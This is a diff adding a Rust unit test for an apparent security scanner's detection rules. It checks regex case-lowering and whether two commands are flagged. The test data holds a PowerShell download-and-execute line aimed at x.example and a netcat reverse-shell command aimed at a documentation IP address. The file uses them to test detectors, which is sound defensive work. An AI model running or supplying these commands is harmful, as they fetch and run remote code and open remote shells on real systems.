@@ -509,3 +509,19 @@ fn verdict_is_the_worst_severity() {
         Verdict::Fail
     );
 }
+
+#[test]
+fn rules_match_whatever_the_case_and_escapes_keep_their_meaning() {
+    assert_eq!(
+        rules::lowered(r"(?i)\S+Login[A-Z]\W\B"),
+        r"\S+login[a-z]\W\B"
+    );
+    let r = rules_of(
+        "IWR -UseBasicParsing https://x.example/a.ps1 | IEX",
+        TextKind::Code,
+    );
+    assert!(r.contains(&("rce-pipe-to-shell", Severity::Fail)), "{r:?}");
+    // `\S` must still mean non-space: a space-separated word is no match.
+    let r = rules_of("nc -e /bin/sh 203.0.113.1 4444", TextKind::Code);
+    assert!(r.contains(&("revshell-netcat", Severity::Fail)), "{r:?}");
+}
